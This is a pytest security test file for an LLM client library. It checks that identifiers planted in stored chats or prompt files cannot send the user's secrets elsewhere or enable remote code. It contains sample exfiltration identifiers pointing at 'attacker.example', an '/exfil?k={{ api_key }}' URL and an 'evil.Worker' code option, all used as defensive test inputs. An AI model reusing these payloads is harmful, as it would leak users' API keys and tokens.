"""Identifiers read back from data may not choose where the user's secrets go, nor run code.

The "attacker" is a recording server on 127.0.0.1 (tests/security/recording_server.py); each
reproducer plants an identifier in data (a chat's JSON, a store, a JSONL file), loads it the way
a user would, and checks that it fails closed, says how to allow it, and sent nothing.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import jib
from jib import Chat, Message, TrustPolicy, UntrustedIdentifierError
from jib.errors import GeneratorWarning
from jib.generator.http import HTTPGenerator
from jib.storage import open_store
from tests.cli.conftest import (
    JibRunner,
    assert_one_clean_error_line,
    isolated_env,
    make_runner,
)
from tests.security.recording_server import RunningRecorder, run_recorder

VICTIM_TOKEN = "ghp_victimTOKEN0123456789abcdef"
VICTIM_SECRET = "victim-SECRET-0123456789"
PROVIDER_KEY = "sk-provider-KEY-0123456789"


@pytest.fixture
def attacker() -> Iterator[RunningRecorder]:
    """A server that records whatever reaches it."""
    with run_recorder() as running:
        yield running


@pytest.fixture
def victim_env(monkeypatch: pytest.MonkeyPatch) -> None:
    """The user's environment: secrets an attacker wants, and no allowances."""
    monkeypatch.setenv("GITHUB_TOKEN", VICTIM_TOKEN)
    monkeypatch.setenv("VICTIM_SECRET", VICTIM_SECRET)
    monkeypatch.setenv("OPENAI_API_KEY", PROVIDER_KEY)
    monkeypatch.delenv("JIB_ALLOW_ENV", raising=False)
    monkeypatch.delenv("JIB_ALLOW_HOSTS", raising=False)


@pytest.fixture
def jib_cli(tmp_path: Path) -> JibRunner:
    """`jib …` in a subprocess with its default store in this test's folder, and the victim's
    secrets in its environment."""
    env = isolated_env(tmp_path)
    env.update({"GITHUB_TOKEN": VICTIM_TOKEN, "VICTIM_SECRET": VICTIM_SECRET, "OPENAI_API_KEY": ""})
    return make_runner(env, tmp_path)


@pytest.fixture
def cli_store(tmp_path: Path) -> Path:
    """Where `jib_cli` keeps its store."""
    return tmp_path / "data" / "jib" / "jib.db"


def litellm_reproducer(attacker: RunningRecorder) -> str:
    return f"openai/x,api_base={attacker.origin}/v1,api_key=env:GITHUB_TOKEN"


def http_reproducer(attacker: RunningRecorder) -> str:
    spec = {
        "request": {"url": f"{attacker.origin}/exfil?k={{{{ api_key }}}}", "method": "GET"},
        "response": {"transforms": [{"type": "jsonpath", "pattern": "$.answer"}]},
    }
    return HTTPGenerator(model="x", api_key="env:VICTIM_SECRET", spec=spec).to_identifier()


def chat_json(generator_id: str, params: dict[str, Any] | None = None) -> str:
    """A stored chat's JSON whose `generator_id` (and params) someone else wrote."""
    chat = Chat(messages=[Message("user", "hi")], generated=[Message("assistant", "hello")])
    data = chat.to_dict()
    data["generator_id"] = generator_id
    data["params"] = params
    return json.dumps(data)


def plant(store_path: Path, generator_id: str) -> None:
    """Save a chat with `generator_id` into the store, as anyone with write access could."""
    store_path.parent.mkdir(parents=True, exist_ok=True)
    planted = Chat.from_json(chat_json(generator_id), rebuild_generator=False)
    with open_store(store_path) as store:
        store.save(planted)


def assert_nothing_sent(attacker: RunningRecorder) -> None:
    assert attacker.requests == []


# -- the two reproducers, fail closed everywhere ---------------------------------------------------


@pytest.mark.usefixtures("victim_env")
def test_litellm_reproducer_from_get_generator_untrusted_is_refused(
    attacker: RunningRecorder,
) -> None:
    with pytest.raises(UntrustedIdentifierError) as caught:
        jib.get_generator(litellm_reproducer(attacker), trusted=False)

    message = str(caught.value)
    assert "reads environment variable GITHUB_TOKEN" in message
    assert "--allow-env GITHUB_TOKEN" in message
    assert "JIB_ALLOW_ENV=GITHUB_TOKEN" in message
    assert "TrustPolicy(allow_env={'GITHUB_TOKEN'})" in message
    assert VICTIM_TOKEN not in message
    assert isinstance(caught.value, jib.InvalidGeneratorError)
    assert_nothing_sent(attacker)


@pytest.mark.usefixtures("victim_env")
@pytest.mark.parametrize("reproducer", [litellm_reproducer, http_reproducer])
def test_reproducer_in_a_chat_json_is_refused_and_sends_nothing(
    attacker: RunningRecorder, reproducer: Any
) -> None:
    with pytest.raises(UntrustedIdentifierError, match="--allow-env"):
        Chat.from_json(chat_json(reproducer(attacker)))

    assert_nothing_sent(attacker)


@pytest.mark.usefixtures("victim_env")
@pytest.mark.parametrize("reproducer", [litellm_reproducer, http_reproducer])
def test_reproducer_in_a_store_is_refused_when_rebuilt(
    attacker: RunningRecorder, reproducer: Any, tmp_path: Path
) -> None:
    path = tmp_path / "shared.db"
    plant(path, reproducer(attacker))

    with open_store(path) as store:
        # The record loads without its generator (one bad record never fails a query), and the
        # warning says why and how to allow it.
        with pytest.warns(GeneratorWarning, match="--allow-env"):
            [chat] = store.query()
        assert chat.generator is None
        with pytest.warns(GeneratorWarning):
            last = store.last()
        assert last is not None and last.generator is None
        with pytest.raises(UntrustedIdentifierError, match="--allow-env"):
            jib.get_generator(chat.generator_id or "", trusted=False)
        [plain] = store.query(rebuild_generator=False)
    assert chat.content == plain.content == "hello"
    assert_nothing_sent(attacker)


@pytest.mark.parametrize(
    ("reproducer", "variable"),
    [(litellm_reproducer, "GITHUB_TOKEN"), (http_reproducer, "VICTIM_SECRET")],
)
def test_reproducer_continued_with_the_cli_fails_closed(
    attacker: RunningRecorder,
    jib_cli: JibRunner,
    cli_store: Path,
    reproducer: Any,
    variable: str,
) -> None:
    plant(cli_store, reproducer(attacker))

    result = jib_cli("chat", "--continue", "and then?")

    assert_one_clean_error_line(
        result, f"environment variable {variable}", f"--allow-env {variable}"
    )
    assert result.code == 2
    assert VICTIM_TOKEN not in result.stderr + result.stdout
    assert VICTIM_SECRET not in result.stderr + result.stdout
    assert_nothing_sent(attacker)


def test_the_user_can_allow_a_variable_for_the_cli_continue(
    attacker: RunningRecorder, jib_cli: JibRunner, cli_store: Path
) -> None:
    plant(cli_store, http_reproducer(attacker))

    result = jib_cli("chat", "--continue", "and then?", "--allow-env", "VICTIM_SECRET")

    assert result.code == 0, result.stderr
    assert result.stdout == "ok\n"
    # The user chose to send it to this (loopback) server.
    assert attacker.requests[0]["path"] == f"/exfil?k={VICTIM_SECRET}"


@pytest.mark.usefixtures("victim_env")
async def test_allowed_variable_with_a_policy_goes_to_loopback(attacker: RunningRecorder) -> None:
    policy = TrustPolicy(allow_env={"GITHUB_TOKEN"})
    chat = Chat.from_json(chat_json(litellm_reproducer(attacker)), trusted=policy)

    again = await chat.continue_("and then?").run()

    assert again.content == "echo: and then?"
    assert attacker.requests[0]["headers"]["authorization"] == f"Bearer {VICTIM_TOKEN}"


def test_allowed_variables_come_from_jib_allow_env(
    attacker: RunningRecorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("JIB_ALLOW_ENV", "SOMETHING_ELSE, GITHUB_TOKEN")

    chat = Chat.from_json(chat_json(litellm_reproducer(attacker)))

    assert chat.generator is not None
    assert "api_key=env:GITHUB_TOKEN" in chat.generator.to_identifier()


# -- where secrets may go ------------------------------------------------------------------------


@pytest.mark.usefixtures("victim_env")
@pytest.mark.parametrize(
    "identifier",
    [
        "openai/x,api_base=http://attacker.example/v1,api_key=env:OPENAI_API_KEY",
        "openai/x,api_base=http://attacker.example/v1",  # LiteLLM would send OPENAI_API_KEY
        "openai/x,api_base=http://attacker.example/v1,api_key=sk-the-datas-own-key",
        "openai!x,api_base=http://attacker.example/v1",  # openai! would send OPENAI_API_KEY
        "openai!x,api_base=https://api.openai.com@attacker.example/v1",
    ],
)
def test_a_provider_key_may_not_go_to_a_host_the_data_chose(identifier: str) -> None:
    with pytest.raises(UntrustedIdentifierError) as caught:
        jib.get_generator(identifier, trusted=False)

    message = str(caught.value)
    assert "to attacker.example" in message
    assert "--allow-host attacker.example" in message
    assert "JIB_ALLOW_HOSTS=attacker.example" in message
    assert "TrustPolicy(allow_hosts={'attacker.example'})" in message


@pytest.mark.usefixtures("victim_env")
def test_an_allowed_host_may_receive_a_provider_key(monkeypatch: pytest.MonkeyPatch) -> None:
    identifier = "openai/x,api_key=env:NVIDIA_KEY,api_base=https://integrate.api.nvidia.com/v1"

    policy = TrustPolicy(allow_env={"NVIDIA_KEY"}, allow_hosts={"integrate.api.nvidia.com"})
    assert jib.get_generator(identifier, trusted=policy).to_identifier() == identifier
    monkeypatch.setenv("JIB_ALLOW_ENV", "NVIDIA_KEY")
    monkeypatch.setenv("JIB_ALLOW_HOSTS", "integrate.api.nvidia.com")
    assert jib.get_generator(identifier, trusted=False).to_identifier() == identifier


@pytest.mark.usefixtures("victim_env")
@pytest.mark.parametrize(
    "identifier",
    [
        "openai/gpt-4o,api_key=env:OPENAI_API_KEY,temperature=0",  # the README's flow
        "anthropic/claude-3-7-sonnet-latest",  # the provider's own host, its own variable
        "openai/x,api_base=http://localhost:8000/v1",
        "openai/x,api_base=http://127.0.0.1:8000/v1,api_key=env:OPENAI_API_KEY",
        "openai/x,api_base=http://[::1]:8000/v1",
        "ollama_chat/qwen3:0.6b,api_base=http://localhost:11434",
    ],
)
def test_ordinary_stored_identifiers_are_accepted(identifier: str) -> None:
    chat = Chat.from_json(chat_json(identifier))

    assert chat.generator is not None


@pytest.mark.usefixtures("victim_env")
def test_an_http_spec_whose_host_is_a_template_needs_any_host_allowed() -> None:
    spec = {"request": {"url": "https://{{ state.host }}/x?k={{ api_key }}", "method": "GET"}}
    identifier = HTTPGenerator(model="x", api_key="env:OPENAI_API_KEY", spec=spec).to_identifier()

    with pytest.raises(UntrustedIdentifierError, match=r"--allow-host '\*'"):
        jib.get_generator(identifier, trusted=False)
    assert jib.get_generator(identifier, trusted=TrustPolicy(allow_hosts={"*"})) is not None


@pytest.mark.usefixtures("victim_env")
def test_an_extra_entry_that_moves_the_request_needs_its_own_allowance() -> None:
    identifier = "openai/x,extra=%7B%22api_base%22%3A%22http%3A//attacker.example/v1%22%7D"

    with pytest.raises(UntrustedIdentifierError) as caught:
        jib.get_generator(identifier, trusted=False)

    [problem] = caught.value.problems
    assert problem.startswith("it sets extra.api_base, which LiteLLMGenerator does not accept")
    assert "--allow-option extra.api_base, JIB_ALLOW_OPTIONS=extra.api_base" in problem
    # Allowing a host is not allowing the option: the option is what moves the request.
    with pytest.raises(UntrustedIdentifierError, match=r"--allow-option extra\.api_base"):
        jib.get_generator(identifier, trusted=TrustPolicy(allow_hosts={"attacker.example"}))


@pytest.mark.usefixtures("victim_env")
def test_litellm_environment_references_in_extra_are_checked_too() -> None:
    identifier = jib.get_generator(
        "openai/x", params=jib.GenerateParams(extra={"api_key": "os.environ/GITHUB_TOKEN"})
    ).to_identifier()

    with pytest.raises(UntrustedIdentifierError) as caught:
        jib.get_generator(identifier, trusted=False)
    assert "--allow-option extra.api_key" in str(caught.value)
    assert "environment variable GITHUB_TOKEN" in str(caught.value)

    # An allowed option still may not read a variable nobody allowed.
    allowed = TrustPolicy(allow_options={"extra.api_key"})
    with pytest.raises(UntrustedIdentifierError) as caught:
        jib.get_generator(identifier, trusted=allowed)
    assert caught.value.problems[0].startswith("it reads environment variable GITHUB_TOKEN")
    assert len(caught.value.problems) == 1


@pytest.mark.usefixtures("victim_env")
def test_a_stored_chats_params_may_not_move_the_request(attacker: RunningRecorder) -> None:
    stored = chat_json(
        f"openai/x,api_base={attacker.origin}/v1",
        params={"extra": {"base_url": "http://attacker.example/v1"}},
    )

    with pytest.raises(UntrustedIdentifierError, match=r"--allow-option extra\.base_url"):
        Chat.from_json(stored)
    assert_nothing_sent(attacker)


@pytest.mark.parametrize("one_at_a_time", [[], ["--concurrency", "1"]])
def test_jsonl_params_may_not_move_the_request_and_the_other_lines_run(
    attacker: RunningRecorder,
    jib_cli: JibRunner,
    tmp_path: Path,
    cli_store: Path,
    one_at_a_time: list[str],
) -> None:
    prompts = tmp_path / "prompts.jsonl"
    lines = [
        {"prompt": "first"},
        {"prompt": "moved", "params": {"extra": {"api_base": "http://attacker.example/v1"}}},
        {"prompt": "third", "params": {"temperature": 0.5}},
    ]
    prompts.write_text("".join(json.dumps(line) + "\n" for line in lines))
    identifier = f"openai/x,api_base={attacker.origin}/v1,api_key=sk-local"

    run = ("run", identifier, "-f", str(prompts), "--no-progress", "--run", "r", *one_at_a_time)

    result = jib_cli(*run)

    assert result.code == 1, result.stderr
    assert "--allow-option extra.api_base" in result.stderr
    sent = [json.loads(request["body"])["messages"][-1]["content"] for request in attacker.requests]
    assert sorted(sent) == ["first", "third"]
    with open_store(cli_store) as store:
        chats = {chat.messages[-1].content: chat for chat in store.query(rebuild_generator=False)}
    assert [chats["first"].content, chats["third"].content] == ["echo: first", "echo: third"]
    refused = chats["moved"]
    assert refused.failed and refused.generated == []
    assert refused.error is not None
    assert "prompts.jsonl line 2" in str(refused.error)
    assert "--allow-option extra.api_base" in str(refused.error)


# -- code ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("identifier", "option"),
    [
        ("transformers!/some/dir,trust_remote_code=True", None),
        ("vllm!some/model,trust_remote_code=True", None),
        (
            "transformers!/some/dir,model_kwargs=%7B%22trust_remote_code%22%3Atrue%7D",
            "model_kwargs",
        ),
        (
            "vllm!some/model,engine_kwargs=%7B%22worker_cls%22%3A%22evil.Worker%22%7D",
            "engine_kwargs",
        ),
    ],
)
def test_options_that_run_code_are_refused_from_data(identifier: str, option: str | None) -> None:
    with pytest.raises(UntrustedIdentifierError) as caught:
        Chat.from_json(chat_json(identifier))

    assert "which runs code" in str(caught.value)
    assert "--trust-remote-code or TrustPolicy(allow_remote_code=True)" in str(caught.value)
    options = {option} if option else set()
    assert (f"--allow-option {option}" in str(caught.value)) == bool(option)
    code_only = TrustPolicy(allow_remote_code=True)
    if option:  # allowing code is not allowing the option that carries it
        with pytest.raises(UntrustedIdentifierError, match=f"--allow-option {option}"):
            Chat.from_json(chat_json(identifier), trusted=code_only)
    both = TrustPolicy(allow_remote_code=True, allow_options=options)
    chat = Chat.from_json(chat_json(identifier), trusted=both)
    assert chat.generator is not None


def test_options_that_run_code_are_accepted_from_the_user() -> None:
    generator = jib.get_generator("transformers!/some/dir,trust_remote_code=True")

    assert generator.to_identifier() == "transformers!/some/dir,trust_remote_code=True"


def test_every_spec_example_still_parses_as_written_by_the_user() -> None:
    class Custom(jib.Generator):
        custom_field: bool = False

    jib.register_generator("custom", Custom)
    examples = [
        "gpt-4.1",
        "openai/o3-mini",
        "gemini/gemini-2.5-pro",
        "openai/gpt-4,api_key=sk-1234",
        "anthropic/claude-3-7-haiku-latest,stop=output:;---,seed=1337",
        "openai/google/gemma-7b,api_base=https://integrate.api.nvidia.com/v1",
        "http!spanglish,api_key=KEY",
        "vllm!TinyLlama/TinyLlama-1.1B-Chat-v1.0,gpu_memory_utilization=0.3,trust_remote_code=True",
        "transformers!meta-llama/Meta-Llama-3-8B-Instruct",
        "custom!foo,custom_field=True",
    ]
    for identifier in examples:
        assert jib.get_generator(identifier) is not None


# -- the README's flows --------------------------------------------------------------------------


def test_a_chat_made_against_a_local_server_continues_from_json(
    attacker: RunningRecorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", PROVIDER_KEY)
    generator = jib.get_generator(f"openai/tiny,api_base={attacker.origin}/v1,api_key=sk-local")

    async def scenario() -> Chat:
        first = await generator.chat("hello").run()
        loaded = Chat.from_json(first.to_json())  # stored without the key
        return await loaded.continue_("once more").run()

    again = asyncio.run(scenario())

    assert again.content == "echo: once more"
    # Reloaded, it takes the key from the environment, as the provider does, to loopback only.
    assert attacker.requests[1]["headers"]["authorization"] == f"Bearer {PROVIDER_KEY}"


def test_cli_continue_of_a_chat_made_against_a_local_server(
    attacker: RunningRecorder, jib_cli: JibRunner
) -> None:
    identifier = f"openai/tiny,api_base={attacker.origin}/v1,api_key=sk-local"
    first = jib_cli("chat", identifier, "hello")
    assert first.code == 0, first.stderr

    result = jib_cli("chat", "--continue", "once more", env_update={"OPENAI_API_KEY": "sk-env"})

    assert result.code == 0, result.stderr
    assert result.stdout == "echo: once more\n"
    # The last request is the continuation's (the recorder does not stream, so each chat may
    # take two requests: the streamed try, then a plain one).
    assert attacker.requests[-1]["headers"]["authorization"] == "Bearer sk-env"
